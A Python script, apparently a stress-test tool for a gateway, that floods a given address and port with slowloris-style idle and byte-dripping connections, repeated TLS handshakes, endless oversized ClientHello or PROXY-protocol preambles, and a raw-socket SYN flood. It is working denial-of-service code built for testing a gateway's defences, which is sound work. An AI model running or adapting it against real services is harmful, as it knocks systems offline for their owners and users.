"""Attacks the port of a gateway from a server that its firewall lets in, as fast as it can, until it is stopped.

`python3 attacker.py KIND ADDRESS PORT [FILE]`; nothing but Python's own library, since it runs on a server of a test.
FILE is a certificate with its key. Every second it says on one line, as JSON, what it did so far.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import resource
import socket
import ssl
import struct
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable

DONE: Counter[str] = Counter()
# The begin of a ClientHello of 508 bytes; more of it, or of a longer one, in a record as large as there are (RFC 8446,
# sections 4 and 5.1).
HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(501)
RECORD = b"\x16\x03\x01\x40\x00" + bytes(16384)
# The gateway's own word to the agent (a header of the PROXY protocol, version 2) of 64 kB, and a ClientHello of 16 MB.
BEGINNINGS = (b"\r\n\r\n\0\r\nQUIT\n\x21\x11\xff\xff", b"\x16\x03\x01\x00\x04\x01\xff\xff\xff")
SYN = 0x02
# Of these in a hundredth of a second. More would be the work of who sends them: where that is the machine of who is
# attacked, the kernel does it before all else.
SYNS = 20
Place = tuple[str, int]


async def silent(place: Place, _: str) -> None:
    """A connection on which nothing is said."""
    reader, writer = await _open(place)
    await reader.read()
    writer.close()


async def drip(place: Place, _: str) -> None:
    """The beginning of a handshake, a byte every half second."""
    _reader, writer = await _open(place)
    for byte in HELLO:
        writer.write(bytes((byte,)))
        await writer.drain()
        await asyncio.sleep(0.5)


async def handshake(place: Place, certificate: str) -> None:
    """All of a handshake, without a certificate or with somebody else's."""
    _reader, writer = await _open(place, certificate)
    DONE["handshakes"] += 1
    writer.transport.abort()


async def preamble(place: Place, _: str) -> None:
    """A beginning without an end, and no handshake."""
    _reader, writer = await _open(place)
    writer.write(BEGINNINGS[DONE["opened"] % len(BEGINNINGS)])
    while True:
        writer.write(RECORD)
        await writer.drain()
        DONE["bytes"] += len(RECORD)


async def _open(place: Place, certificate: str | None = None) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    made = None
    if certificate is not None:
        made = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        made.check_hostname = False
        made.verify_mode = ssl.CERT_NONE
        made.set_alpn_protocols(["mpc/1"])
        if certificate:
            made.load_cert_chain(certificate)
    opened = await asyncio.open_connection(*place, ssl=made)
    DONE["opened"] += 1
    return opened


KINDS: dict[str, tuple[Callable[[Place, str], Awaitable[None]], int]] = {
    "silent": (silent, 8000),
    "drip": (drip, 8000),
    "handshakes": (handshake, 64),
    "preambles": (preamble, 64),
}
"""Kind → what it does, and how many of it at once: more connections than a gateway has, or as many as keep it busy."""


async def again(kind: Callable[[Place, str], Awaitable[None]], place: Place, certificate: str) -> None:
    """One after another."""
    while True:
        try:
            await kind(place, certificate)
        except (OSError, EOFError):
            DONE["turned away"] += 1
        await asyncio.sleep(0)


async def attack(kind: str, place: Place, certificate: str) -> None:
    """For ever."""
    what, count = KINDS[kind]
    tasks = [asyncio.create_task(again(what, place, certificate)) for _ in range(count)]
    while not any(task.done() for task in tasks):
        tell()
        await asyncio.sleep(1)
    await asyncio.gather(*tasks)


def syn(place: Place) -> None:
    """Half of a connection: who asked for it never answers. The kernel here must not either: drop its resets."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asked:
        asked.connect(place)
        own = asked.getsockname()[0]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP) as raw:
        while True:
            packet = _segment(own, place, 1024 + DONE["opened"] % 64512)
            with contextlib.suppress(OSError):  # the card's queue is full
                raw.sendto(packet, (place[0], 0))
            DONE["opened"] += 1
            if not DONE["opened"] % SYNS:
                time.sleep(0.01)
                tell()


def _segment(own: str, place: Place, port: int) -> bytes:
    """One SYN, with its checksum (RFC 9293, section 3.1)."""
    number = int.from_bytes(os.urandom(4))

    def header(checksum: int) -> bytes:
        return struct.pack("!HHIIBBHHH", port, place[1], number, 0, 5 << 4, SYN, 65535, checksum, 0)

    text = socket.inet_aton(own) + socket.inet_aton(place[0]) + struct.pack("!HH", socket.IPPROTO_TCP, 20) + header(0)
    total = sum(struct.unpack(f"!{len(text) // 2}H", text))
    total = (total >> 16) + (total & 0xFFFF)
    return header(~(total + (total >> 16)) & 0xFFFF)


def tell() -> None:
    """What was done so far."""
    print(json.dumps(DONE), flush=True)


def main() -> None:
    """Attack."""
    kind, address, port, *rest = sys.argv[1:]
    resource.setrlimit(resource.RLIMIT_NOFILE, 2 * resource.getrlimit(resource.RLIMIT_NOFILE)[1:])
    os.nice(19)  # elsewhere it would have a machine of its own: here it has what others leave of theirs
    if kind == "syn":
        syn((address, int(port)))
    asyncio.run(attack(kind, (address, int(port)), rest[0] if rest else ""))


if __name__ == "__main__":
    main()
